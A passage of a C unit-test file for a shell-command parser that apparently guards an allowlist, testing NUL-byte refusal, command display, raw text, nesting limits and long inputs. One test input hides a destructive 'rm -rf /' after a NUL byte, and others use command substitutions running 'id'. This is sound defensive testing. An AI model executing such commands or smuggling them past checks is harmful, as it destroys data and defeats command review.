		print_error("input:    %s\nexpected: %s\ngot:      %s\n",
		    v->in, v->out, got);
	assert_string_equal(got, v->out);
	free(got);
}

/* A NUL byte is refused, with its offset. */
static void
test_nul(void **state)
{
	char	*got;

	(void)state;
	got = parse_dump("ls\0rm -rf /", 11);
	assert_string_equal(got, "!nul byte at 2");
	free(got);
	got = parse_dump("ls -l", 5);
	assert_string_equal(got, "ls -l");
	free(got);
}

/* Readable strings of simple commands. */
static void
test_cmd_string(void **state)
{
	static const struct vector	cases[] = {
		{ "ls -l", "ls -l" },
		{ "echo 'a b' \"c\"", "echo 'a b' c" },
		{ "FOO=1 ls > out 2>&1", "FOO=1 ls >out 2>&1" },
		{ "'FOO=1' ls", "'FOO=1' ls" },		/* a command's name */
		{ "make CC=gcc", "make CC=gcc" },
		{ "echo $x \"$y z\"", "echo $x \"$y z\"" },
		{ "cat <<EOF\nhi\nEOF", "cat <<(here-document)" },
		{ "echo \"it's\"", "echo 'it'\\''s'" },
		{ "> f", ">f" },
		{ "echo 'a\nb' $'\\r' \"x'\ty\"", "echo $'a\\nb' $'\\r' "
		  "$'x\\'\\ty'" },
		/* Other words raw: display.c shows them, once. */
		{ "echo \"$(ls\nid)\" \"$x\ty\"", "echo \"$(ls\nid)\" "
		  "\"$x\ty\"" },
		{ "echo $'\\x01\\\\'", "echo $'\\x01\\\\'" },
	};
	struct sh_script	 s = SH_SCRIPT_INIT;
	char			*cause = NULL, *str;
	size_t			 i;

	(void)state;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		assert_int_equal(sh_parse(cases[i].in, &s, &cause), 0);
		assert_true(s.ncmds > 0);
		/* The outer command comes last. */
		str = sh_cmd_string(&s.cmds[s.ncmds - 1]);
		assert_string_equal(str, cases[i].out);
		free(str);
		sh_script_release(&s);
		assert_int_equal(s.ncmds, 0);
	}
}

/* Raw text is kept as written (the allowlist shows it). */
static void
test_raw(void **state)
{
	struct sh_script	 s = SH_SCRIPT_INIT;
	char			*cause = NULL;

	(void)state;
	assert_int_equal(sh_parse("e''cho \"$x\"y fi\\\nle", &s, &cause), 0);
	assert_int_equal(s.ncmds, 1);
	assert_int_equal(s.cmds[0].nwords, 3);
	assert_string_equal(s.cmds[0].words[0].raw, "e''cho");
	assert_string_equal(s.cmds[0].words[0].text, "echo");
	assert_true(SH_WORD_LITERAL(&s.cmds[0].words[0]));
	assert_string_equal(s.cmds[0].words[1].raw, "\"$x\"y");
	assert_string_equal(s.cmds[0].words[1].text, "$xy");
	assert_false(SH_WORD_LITERAL(&s.cmds[0].words[1]));
	assert_string_equal(s.cmds[0].words[2].raw, "fi\\\nle");
	assert_string_equal(s.cmds[0].words[2].text, "file");
	assert_int_equal(s.cmds[0].words[2].flags, 0);
	sh_script_release(&s);

	assert_int_equal(sh_parse("cat <<-E\n\ta $b\n\tE\n", &s, &cause), 0);
	assert_int_equal(s.cmds[0].nredirs, 1);
	assert_int_equal(s.cmds[0].redirs[0].fd, -1);
	assert_int_equal(s.cmds[0].redirs[0].op, SH_R_HEREDOC);
	assert_string_equal(s.cmds[0].redirs[0].target.raw, "a $b\n");
	assert_string_equal(s.cmds[0].redirs[0].target.text, "a $b\n");
	assert_int_equal(s.cmds[0].redirs[0].target.flags, SH_W_PARAM);
	sh_script_release(&s);
}

/* Build a string of n copies of a piece between a prefix and suffix. */
static char *
repeat(const char *pre, const char *piece, size_t n, const char *suf)
{
	struct buf	b = BUF_INIT;
	size_t		i;

	buf_puts(&b, pre);
	for (i = 0; i < n; i++)
		buf_puts(&b, piece);
	buf_puts(&b, suf);
	return buf_detach(&b);
}

/* Nesting is capped (no stack overflow), legal depths still parse. */
static void
test_nesting(void **state)
{
	static const struct {
		const char	*open, *close;
	} kinds[] = {
		{ "( ", " )" },
		{ "{ ", "; }" },
		{ "$(", ")" },
		{ "echo \"$(", ")\"" },
		{ "<(", ")" },
		{ "${x:-", "}" },
		{ "if true; then ", "; fi" },
		{ "$(( ", " ))" },
		{ "for x in a; do ", "; done" },
	};
	struct sh_script	 s = SH_SCRIPT_INIT;
	char			*in, *open, *cause = NULL;
	size_t			 k;

	(void)state;
	for (k = 0; k < sizeof kinds / sizeof kinds[0]; k++) {
		open = repeat("", kinds[k].open, 40, "ls");
		in = repeat(open, kinds[k].close, 40, "");
		if (sh_parse(in, &s, &cause) != 0)
			fail_msg("depth 40 of '%s' failed: %s", kinds[k].open,
			    cause);
		sh_script_release(&s);
		free(open);
		free(in);
		open = repeat("", kinds[k].open, 100000, "ls");
		in = repeat(open, kinds[k].close, 100000, "");
		assert_int_not_equal(sh_parse(in, &s, &cause), 0);
		if (strstr(cause, "nesting deeper than 64 levels at ") == NULL)
			fail_msg("'%s': %s", kinds[k].open, cause);
		free(cause);
		cause = NULL;
		free(open);
		free(in);
	}
	/* Nested backquotes. */
	in = xstrdup("echo `echo \\`echo \\\\\\`id\\\\\\`\\``");
	assert_int_equal(sh_parse(in, &s, &cause), 0);
	assert_int_equal(s.ncmds, 4);
	assert_string_equal(s.cmds[0].words[0].text, "id");
	sh_script_release(&s);
	free(in);
}

/* A long valid input parses completely (its time is in bench-parse). */
static void
test_long(void **state)
{
	struct sh_script	 s = SH_SCRIPT_INIT;
	char			*in, *cause = NULL;

	(void)state;
	in = repeat("", "ls -l; ", 100000, "pwd");
	assert_int_equal(sh_parse(in, &s, &cause), 0);
	assert_int_equal(s.ncmds, 100001);
	assert_string_equal(s.cmds[100000].words[0].text, "pwd");
	sh_script_release(&s);
	free(in);
	in = repeat("echo ", "a", 1024 * 1024, "");
	assert_int_equal(sh_parse(in, &s, &cause), 0);
	assert_int_equal(strlen(s.cmds[0].words[1].text), 1024 * 1024);
	sh_script_release(&s);
	free(in);
}

int
main(void)
{
	static const struct CMUnitTest fixed[] = {
		cmocka_unit_test(test_nul),
		cmocka_unit_test(test_cmd_string),
		cmocka_unit_test(test_raw),
		cmocka_unit_test(test_nesting),
		cmocka_unit_test(test_long),
	};
	size_t			 nv = sizeof vectors / sizeof vectors[0];
	size_t			 nf = sizeof fixed / sizeof fixed[0];
	size_t			 i, j;
	struct CMUnitTest	*tests;
	char			**names;
	struct buf		 b = BUF_INIT;
	int			 r;

	tests = xcalloc(nv + nf, sizeof *tests);
	names = xcalloc(nv, sizeof *names);
	for (i = 0; i < nv; i++) {
		buf_reset(&b);
		buf_printf(&b, "vector %zu: ", i + 1);
		for (j = 0; vectors[i].in[j] != '\0' && j < 50; j++)
			dump_byte(&b, (unsigned char)vectors[i].in[j]);
		names[i] = xstrdup(b.data);
		tests[i].name = names[i];
		tests[i].test_func = test_vector;
		tests[i].initial_state = (void *)&vectors[i];
	}
	buf_release(&b);
	for (i = 0; i < nf; i++)
		tests[nv + i] = fixed[i];
	r = _cmocka_run_group_tests("shparse", tests, nv + nf, NULL, NULL);
	for (i = 0; i < nv; i++)
		free(names[i]);
	free(names);
	free(tests);
	return r;
}
